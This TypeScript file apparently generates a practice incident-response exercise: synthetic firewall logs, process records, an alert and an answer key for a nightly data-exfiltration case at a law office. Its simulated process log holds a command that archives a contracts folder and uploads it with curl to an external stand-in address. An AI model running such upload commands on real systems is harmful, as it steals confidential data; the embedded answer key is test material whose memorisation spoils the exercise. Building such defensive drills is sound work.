import type { ExampleFile } from "../examples/files.ts";
import { createRandom } from "../examples/random.ts";
import { createLines, scatter, stampOf, utc } from "../incidents/lines.ts";
import { json, organisation } from "./parts.ts";

const server = "10.90.5.20";
const destination = "203.0.113.222";
const strike = utc("2025-05-19 23:40:00");

/** A file server that sends two gigabytes by night to an address nobody knows; a backup target gets as much every night. */
export function exfiltrationDrill(): ExampleFile[] {
  const random = createRandom(519);
  const lines = createLines();
  const session = (ms: number, from: string, to: string, sent: number) => {
    const { date, clock } = stampOf(ms);
    lines.add(
      ms,
      `date=${date} time=${clock} devname="FGT" devid="FG100F0000000009" logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" srcip=${from} srcport=${random.between(49152, 65000)} dstip=${to} dstport=443 sessionid=${random.between(100000, 9000000)} proto=6 action="close" policyid=4 service="HTTPS" sentbyte=${sent} rcvdbyte=${random.between(2000, 90000)} tz="+0000"`,
    );
  };
  for (let day = 13; day <= 19; day++) {
    scatter(random, 40, utc(`2025-05-${day} 07:00:00`), utc(`2025-05-${day} 18:00:00`), (ms) =>
      session(
        ms,
        `10.90.5.${random.between(30, 60)}`,
        random.pick(["142.250.74.46", "13.107.42.14"]),
        random.between(2000, 400_000),
      ),
    );
    scatter(random, 6, utc(`2025-05-${day} 07:00:00`), utc(`2025-05-${day} 18:00:00`), (ms) =>
      session(ms, server, "13.107.42.14", random.between(20_000, 900_000)),
    );
  }
  for (let i = 0; i < 8; i++)
    session(strike + i * 240_000, server, destination, 260_000_000 + random.between(0, 9_000_000));
  const processes = createLines(["Event Time (UTC),Hostname,User,Process Name,Command Line"]);
  const row = (ms: number, user: string, name: string, line: string) =>
    processes.add(ms, `${stampOf(ms).iso.replace(".000", "")},FILES-1,${user},${name},"${line}"`);
  scatter(random, 60, utc("2025-05-18 20:00:00"), utc("2025-05-20 03:00:00"), (ms) =>
    row(ms, "SYSTEM", "svchost.exe", "svchost.exe -k netsvcs"),
  );
  row(strike - 5_400_000, "d.ames", "7z.exe", "7z.exe a -p C:\\ProgramData\\q.7z D:\\Contracts");
  row(strike - 120_000, "d.ames", "curl.exe", `curl.exe -T C:\\ProgramData\\q.7z https://${destination}/u`);
  return [
    {
      path: "alert.json",
      content: json({
        TimeGenerated: "2025-05-20T00:20:00Z",
        StartTime: "2025-05-19T23:40:00Z",
        SystemAlertId: "5c2f0b8e-0000-4000-8000-000000000519",
        AlertName: "Unusual volume of data sent to an external address",
        AlertSeverity: "High",
        Tactics: "Exfiltration",
        Entities: JSON.stringify([
          { $id: "1", HostName: "FILES-1", Type: "host" },
          { $id: "2", Address: server, Type: "ip" },
          { $id: "3", Address: destination, Type: "ip" },
        ]),
      }),
    },
    {
      path: "organisation.yml",
      content: organisation("Law office", ["10.90.0.0/16"], [["FILES-1", server, "file server"]]),
    },
    { path: "evidence/network/fortigate.log", content: lines.text() },
    { path: "evidence/FILES-1/processes.csv", content: processes.text() },
    { path: "key.yml", content: key },
  ];
}

const key = `# Practice: a volume says something only against a baseline.
title: Two gigabytes by night
teaches: Compare with the machine's own days. Then ask where it went, and what was gathered before.
answers:
  - { kind: volume-unusual, accept: [unusual], cites: [fortigate.log], because: 'Two gigabytes where its days have a few megabytes.', wrong: { usual: 'Its six other days have at most a few megabytes.' } }
  - { kind: destination-known, accept: [unknown to the organisation], cites: [fortigate.log], because: 'First met that night, by this machine alone.' }
  - { kind: data-touched, accept: ["yes"], cites: [processes.csv], because: 'An archive of the contracts an hour and a half before.' }
  - { kind: still-going, accept: ["yes"], because: 'Sessions until half an hour after the alert began.' }
  - { kind: contain, accept: [contain], because: 'It goes on.' }
scope:
  - { value: ${destination}, because: 'Where it went.' }
verdict: { accept: [true positive], because: 'An unusual volume to an unknown place, packed before.' }
timing:
  happened: { value: ${destination}, first: 2025-05-19T23:40:00Z }
  closeWithinMinutes: 45
`;
